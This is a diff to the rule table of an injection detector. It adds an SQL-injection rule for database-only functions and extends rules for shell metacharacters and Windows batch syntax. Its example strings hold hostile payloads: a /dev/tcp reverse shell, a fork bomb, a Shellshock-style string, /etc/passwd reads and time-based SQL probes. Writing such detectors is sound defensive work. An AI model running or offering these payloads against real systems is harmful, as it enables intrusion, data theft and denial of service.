@@ -120,6 +120,21 @@ RULES: tuple[Rule, ...] = (
         counterexamples=("Let me sleep on it", "the version is 2.1"),
     ),
     Rule(
+        id="sqli.database_function",
+        code=SQLI,
+        pattern=(
+            r"(?i)\b(?:pg_sleep|benchmark|extractvalue|updatexml|load_file|group_concat|sysdate"
+            r"|db_name|database|schema_name|user_name|current_database|pg_read_file|utl_inaddr"
+            r"|utl_http|dbms_\w+|xp_cmdshell|find_in_set|make_set|name_const|randomblob"
+            r"|sqlite_version|is_srvrolemember|has_dbaccess|quotename|char_length)\("
+        ),
+        severity=_S,
+        score=0.5,
+        message="a function only databases have",
+        examples=("DATABASE(", "pg_sleep(5)", "1 and extractvalue(1,0x7e)", "BENChmARk("),
+        counterexamples=("the database (v2) is down", "a benchmark (2024) of sorts"),
+    ),
+    Rule(
         id="sqli.comment",
         code=SQLI,
         pattern=r"(?i)/\*!?\d*|\*/|['\"`)\d]\s*(?:--|#|;\s*--|;\s*#|%00)|--\s*$|\bor\b\s*--",
@@ -376,12 +391,19 @@ RULES: tuple[Rule, ...] = (
             r"|(?i)\bcurl\s+[^\s]+\s*\|\s*(?:ba)?sh|\b(?:chmod\s+[+0-7]|wget\s+https?://|curl\s+"
             r"(?:-\w+\s+)*https?://)|\$'\\|\\\$\(|\{,|,\}|\w\$\{?\w+\}?\w|[a-z]'[a-z]{0,3}'[a-z]|[a-z]\"[a-z]{0,3}\"[a-z]"
             r"|/\[[^\]]+\]\w|\w\[[!^]?[a-z]\]\w|\?{1,3}/|/[a-z]*[*?][a-z]*/"
+            r"|\(\)\s*\{\s*[\w:.]*(?:\(\))?\s*[|&]|\(\)\s*\{\s*:\s*;"
         ),
         severity=_S,
         score=0.7,
         message="shell metacharacter syntax",
-        examples=("cat${IFS}/etc/passwd", "{cat,/etc/passwd}", "bash -i >& /dev/tcp/1.2.3.4/8080"),
-        counterexamples=("costs $5 {approx}", "what? really"),
+        examples=(
+            "cat${IFS}/etc/passwd",
+            "{cat,/etc/passwd}",
+            "bash -i >& /dev/tcp/1.2.3.4/8080",
+            ":(){ :|:& };:",
+            "() { :; }; echo x",
+        ),
+        counterexamples=("costs $5 {approx}", "what? really", "f = () { return x; }"),
     ),
     Rule(
         id="cmdi.windows_batch",
@@ -389,13 +411,19 @@ RULES: tuple[Rule, ...] = (
         pattern=(
             r"(?i)(?:^|[&|;(]\s*)(?:if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|\S+\s*"
             r"(?:==|\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))|for\s+(?:/[dflr]\s+)*"
-            r"(?:\S+\s+)?%%?[~\w@]+\s+in\s*\(|set\s+/[ap]\s|call\s+:|goto\s+:?\w+|echo\s+(?:off|on)"
+            r"(?:\"[^\"]*\"\s+)?%%?\S*\s+in\s*\(|if\s+\"[^\"]*\"\s*==|set\s+/[ap]\s|call\s+:|goto\s+:?\w+|echo\s+(?:off|on)"
             r"\b|%comspec%|start\s+/b\b)"
         ),
         severity=_S,
         score=0.8,
         message="Windows batch control flow",
-        examples=('IF EXIST "temp.txt" ECHO found', "& FOR %@ IN (a,b,c) DO cmd", "IF 2 GEQ 15 x"),
+        examples=(
+            'IF EXIST "temp.txt" ECHO found',
+            "& FOR %@ IN (a,b,c) DO cmd",
+            "IF 2 GEQ 15 x",
+            'FOR /F "tokens=1 delims=," %%G IN (a.txt) DO ECHO %%G',
+            "& FOR %/ IN (a,b,c) DO cmd",
+        ),
         counterexamples=("if you exist, reply", "for the win"),
     ),
     Rule(
